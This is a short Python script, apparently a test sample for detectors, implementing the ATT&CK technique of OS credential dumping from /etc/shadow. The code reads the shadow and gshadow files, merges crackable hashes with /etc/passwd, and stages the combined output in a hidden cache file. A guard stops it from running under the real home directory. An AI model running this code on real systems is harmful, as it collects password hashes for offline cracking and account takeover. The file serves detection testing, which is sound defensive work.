# technique: T1003.008
"""OS Credential Dumping: /etc/passwd and /etc/shadow (T1003.008), the
obvious spelling: open() and read.

Reads /etc/shadow and /etc/gshadow with open(), keeps the accounts that
have a crackable hash ($1$, $5$, $6$, $y$), joins them with /etc/passwd
(unshadow-style) and stages the result in a hidden file under ~/.cache.
Exits 0 when not root (the reads fail).

A good detector raises a high alert: a program reads /etc/shadow.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import os

hashes = {}
for path in ("/etc/shadow", "/etc/gshadow"):
    try:
        with open(path) as f:
            for line in f:
                name, _, rest = line.partition(":")
                pw = rest.split(":", 1)[0]
                if pw.startswith("$"):
                    hashes[name] = pw
    except OSError as e:
        print("cannot read", path, e)
staged = []
with open("/etc/passwd") as f:
    for line in f:
        fields = line.rstrip("\n").split(":")
        fields[1] = hashes.get(fields[0], fields[1])
        staged.append(":".join(fields))
out = os.path.join(os.path.expanduser("~"), ".cache", ".fc-lock")
os.makedirs(os.path.dirname(out), exist_ok=True)
with open(out, "w") as f:
    f.write("\n".join(staged))
print(len(hashes), "hashes staged")
